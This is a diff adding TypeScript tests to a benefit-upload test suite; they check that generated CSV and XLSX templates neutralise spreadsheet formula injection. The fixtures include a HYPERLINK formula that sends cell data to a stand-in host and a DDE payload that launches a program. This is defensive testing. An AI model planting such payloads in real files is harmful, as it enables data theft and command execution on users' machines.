@@ -4,6 +4,9 @@ import { PartnerFixture } from '../../src/modules/staff/demo.seed';
 import { Card, cards, count, ref } from '../helpers/benefit';
 import { csv, HEADER, upload, XLSX, xlsx } from '../helpers/upload';
 import { SHEET_HEAD, SHEET_TAIL, SST_HEAD, sheetParts, workbook } from '../helpers/zip';
+import { parse as parseCsv } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import { templateCsv, templateWorkbook } from '../../src/cli/benefit-template';
 
 /**
  * Issue 14, the upload's share: XLSX decompression bombs are refused before anything is inflated
@@ -112,5 +115,42 @@ describe('benefit upload: hostile and unusual files', () => {
     expect(res.body.totals).toMatchObject({ rows: 1, rejected: 1 });
     expect(res.body.results[0].errors).toEqual(apiErrors);
     expect(res.body.results[0].errors[0]).toMatchObject({ field: 'amountPaise', code: 'BAD_USER_INPUT', message: expect.stringMatching(/whole number of paise/) });
+  });
+
+  describe('formula text: neutralised in every file the system writes, stored as it came', () => {
+    const formulas = ['=HYPERLINK("http://x.example/?d="&A1,"open")', '+91 98765 43210', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturn', 'cmd|\' /C calc\'!A0'];
+    const rows = formulas.map((f, i) => ['MH0110520010000012', 'PMS', f, 'PENSION', '100', '2026-04-01', `REF-${i}`, f]);
+    const expected = (f: string) => (/^[=+\-@\t\r]/.test(f) ? `'${f}` : f);
+
+    it('the CSV template prefixes a single quote to text that starts with = + - @, a tab or a carriage return', () => {
+      const records: string[][] = parseCsv(templateCsv(rows), { relax_column_count: true });
+      expect(records[0]).toEqual(HEADER);
+      records.slice(1).forEach((r, i) => {
+        expect(r[2]).toBe(expected(formulas[i]));
+        expect(r[7]).toBe(expected(formulas[i]));
+        expect(r[4]).toBe('100'); // numbers stay numbers
+      });
+    });
+
+    it('so does the XLSX template', async () => {
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(await templateWorkbook(rows).xlsx.writeBuffer() as ArrayBuffer);
+      const ws = book.worksheets[0];
+      // XML reads a carriage return back as a line feed: compare line ends alike.
+      const lf = (v: unknown) => String(v).replace(/\r\n?/g, '\n');
+      formulas.forEach((f, i) => {
+        expect(lf(ws.getRow(i + 2).getCell(3).value)).toBe(lf(expected(f)));
+        expect(lf(ws.getRow(i + 2).getCell(8).value)).toBe(lf(expected(f)));
+        expect(ws.getRow(i + 2).getCell(5).value).toBe(100);
+      });
+    });
+
+    it('an uploaded row keeps its formula-like text verbatim', async () => {
+      const r = row(c[5], { schemeName: '=1+1', remarks: '@SUM(A1:A9) -2+3' });
+      const res = await upload(t.url, token, csv([HEADER, r]), 'text/csv');
+      expect(res.body.totals).toMatchObject({ accepted: 1 });
+      const [s] = await t.ds.query('SELECT scheme_name, remarks FROM benefit_report WHERE client_reference = ?', [r[6]]);
+      expect(s).toEqual({ scheme_name: '=1+1', remarks: '@SUM(A1:A9) -2+3' });
+    });
   });
 });
